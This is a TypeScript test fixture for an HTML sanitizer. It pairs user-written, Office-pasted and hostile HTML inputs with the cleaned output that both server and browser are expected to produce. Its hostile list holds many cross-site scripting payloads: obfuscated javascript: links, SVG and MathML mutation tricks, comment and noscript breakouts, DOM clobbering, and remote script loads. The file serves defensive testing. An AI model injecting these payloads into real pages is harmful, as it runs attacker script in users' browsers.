/** HTML of users: what was written or pasted, and what is kept of it. Server and browser must both come to `clean`. */
export interface RichTextSample {
  readonly name: string;
  readonly html: string;
  readonly clean: string;
}

const IMAGE = `/api/media/${'0a'.repeat(16)}.png`;
const sample = (name: string, html: string, clean: string): RichTextSample => ({ name, html, clean });

/** What a person may want to write. */
export const GOOD_SAMPLES: readonly RichTextSample[] = [
  sample('plain words', 'Paket fehlt', 'Paket fehlt'),
  sample('entities', '<p>a &lt;b&gt; &amp; c&nbsp;d „e“</p>', '<p>a &lt;b&gt; &amp; c&nbsp;d „e“</p>'),
  sample('marks', '<p><b>a</b><i>b</i><u>c</u><strike>d</strike><del>e</del></p>', '<p><strong>a</strong><em>b</em><u>c</u><s>de</s></p>'),
  sample('headings', '<h1>a</h1><h6 align="right">b</h6>', '<h1>a</h1><h6 align="right">b</h6>'),
  sample('alignment by style', '<p style="color:red;text-align: center">a</p><h2 style="text-align:left">b</h2>', '<p align="center">a</p><h2>b</h2>'),
  sample('lists', '<ul><li>a<ol start="4"><li><p>b</p></li></ol></li></ul>', '<ul><li><p>a</p><ol start="4"><li>b</li></ol></li></ul>'),
  sample('quotation', '<blockquote><p>a</p><p>b</p></blockquote>', '<blockquote><p>a</p><p>b</p></blockquote>'),
  sample('lines', '<div>a</div><div>b<br>c</div>', '<p>a</p><p>b<br>c</p>'),
  sample('links', '<p><a href="https://a.example/?x=1&amp;y=2" target="_blank" onclick="x()">a</a> <a href="mailto:a@b.example">b</a> <a href="tel:+43123">c</a> <a href="ftp://d.example">d</a></p>', '<p><a href="https://a.example/?x=1&amp;y=2">a</a> <a href="mailto:a@b.example">b</a> <a href="tel:+43123">c</a> <a href="ftp://d.example">d</a></p>'),
  sample('own pages and files', `<p><a href="/downloads">a</a><a href="/api/media/${'0b'.repeat(16)}.pdf">b.pdf</a></p>`, `<p><a href="/downloads">a</a><a href="/api/media/${'0b'.repeat(16)}.pdf">b.pdf</a></p>`),
  sample('pictures', `<p><img src="${IMAGE}" alt="a &quot;b&quot;" width="9999" style="position:fixed"></p>`, `<p><img src="${IMAGE}" alt="a &quot;b&quot;"></p>`),
  sample('a table', '<table><tbody><tr><td>a</td><td>b</td></tr></tbody></table>', '<p>a</p><p>b</p>'),
];

/** What Word, Outlook and Google Docs put on the clipboard, as far as tags tell it. */
export const OFFICE_SAMPLES: readonly RichTextSample[] = [
  sample(
    'Word',
    '<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta charset="utf-8"><title>x</title><style>p.MsoNormal{margin:0}</style></head><body lang="DE"><!--StartFragment--><p class="MsoNormal" style="margin:0"><b><span lang="DE">Fett</span></b> und <span style="color:red">rot</span><o:p></o:p></p><p class="MsoNormal"><o:p>&nbsp;</o:p></p><!--EndFragment--></body></html>',
    '<p><strong>Fett</strong> und rot</p><p>&nbsp;</p>',
  ),
  sample(
    'Outlook',
    '<div class="WordSection1"><p class="MsoNormal">Hallo,<o:p></o:p></p><div style="border-top:solid"><p class="MsoNormal"><b>Von:</b> A<br><b>An:</b> B</p></div></div>',
    '<p>Hallo,</p><p><strong>Von:</strong> A<br><strong>An:</strong> B</p>',
  ),
  sample('conditional comments', '<!--[if gte mso 9]><xml><w:WordDocument/></xml><![endif]--><p>a</p>', '<p>a</p>'),
  sample('Apple Mail', '<div dir="auto">a<div><br></div><div>b</div></div>', '<p>a</p><p><br></p><p>b</p>'),
];

/** What an attacker tries. */
export const HOSTILE_SAMPLES: readonly RichTextSample[] = [
  sample('script', '<p>a<script>alert(1)</script>b</p>', '<p>ab</p>'),
  sample('script in capitals', '<SCRIPT SRC=//e.example/x.js></SCRIPT>a', 'a'),
  sample('event handlers', '<p onmouseover="alert(1)" onclick=alert(1)>a</p>', '<p>a</p>'),
  sample('image with handler', '<img src=x onerror=alert(1)>a', 'a'),
  sample('foreign picture', '<p><img src="https://e.example/pixel.gif">a</p>', '<p>a</p>'),
  sample('picture as data', '<img src="data:image/svg+xml;base64,PHN2Zy8+">a', 'a'),
  sample('javascript link', '<a href="javascript:alert(1)">a</a>', 'a'),
  sample('javascript link with entities', '<a href="&#106;avascript&colon;alert(1)">a</a>', 'a'),
  sample('javascript link with a tab', '<a href="java\tscript:alert(1)">a</a>', 'a'),
  sample('javascript link with a control character', '<a href="\u0001javascript:alert(1)">a</a>', 'a'),
  sample('vbscript and data links', '<a href="vbscript:x">a</a><a href="data:text/html,x">b</a><a href="file:///etc/passwd">c</a>', 'abc'),
  sample('link without scheme', '<a href="//e.example">a</a><a href="/\\e.example">b</a><a href="/\t/e.example">c</a>', 'abc'),
  sample('svg', '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>a', 'a'),
  sample('svg animation', '<svg><animate onbegin=alert(1) attributeName=x dur=1s></animate></svg>a', 'a'),
  sample('mathml', '<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>a', 'a'),
  sample('iframe', '<iframe srcdoc="<script>alert(1)</script>"></iframe>a', 'a'),
  sample('object and embed', '<object data="x"></object><embed src="x">a', 'a'),
  sample('form', '<form action="https://e.example"><input name="a"><button formaction="javascript:alert(1)">b</button></form>', 'b'),
  sample('base and meta', '<base href="https://e.example/"><meta http-equiv="refresh" content="0;url=x">a', 'a'),
  sample('link element', '<link rel="stylesheet" href="https://e.example/x.css">a', 'a'),
  sample('style', '<style>@import "https://e.example/x.css"; p{}</style><p style="background:url(javascript:alert(1));position:fixed;inset:0">a</p>', '<p>a</p>'),
  sample('template', '<template><img src=x onerror=alert(1)></template>a', 'a'),
  sample('textarea', '<textarea><img src=x onerror=alert(1)></textarea>a', 'a'),
  sample('title', '<title><img src=x onerror=alert(1)></title>a', 'a'),
  sample('noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', ''),
  sample('comment', '<!--><img src=x onerror=alert(1)>-->a', '--&gt;a'),
  sample('broken tag', '<<p>a</p>', '<p>&lt;</p><p>a</p>'),
  sample('attribute without quotes', '<a href=https://e.example/onclick=alert(1)>a</a>', '<a href="https://e.example/onclick=alert(1)">a</a>'),
  sample('quote in an attribute', `<a href='https://e.example/"onmouseover="alert(1)'>a</a>`, '<a href="https://e.example/&quot;onmouseover=&quot;alert(1)">a</a>'),
  sample('custom element', '<x-foo onclick=alert(1)>a</x-foo>', 'a'),
  sample('id and name that hide the page\'s own', '<a id="body" name="cookie" href="https://e.example">a</a><p id="getElementById">b</p>', '<p><a href="https://e.example">a</a></p><p>b</p>'),
  sample('data attributes', '<p data-x="y" aria-label="z" class="ProseMirror">a</p>', '<p>a</p>'),
  sample('marquee and blink', '<marquee onstart=alert(1)>a</marquee>', 'a'),
  sample('video', '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>a', 'a'),
  sample('select', '<select><option>x</option></select>a', 'a'),
];

export const RICH_TEXT_SAMPLES: readonly RichTextSample[] = [
  ...GOOD_SAMPLES,
  ...OFFICE_SAMPLES,
  ...HOSTILE_SAMPLES,
];
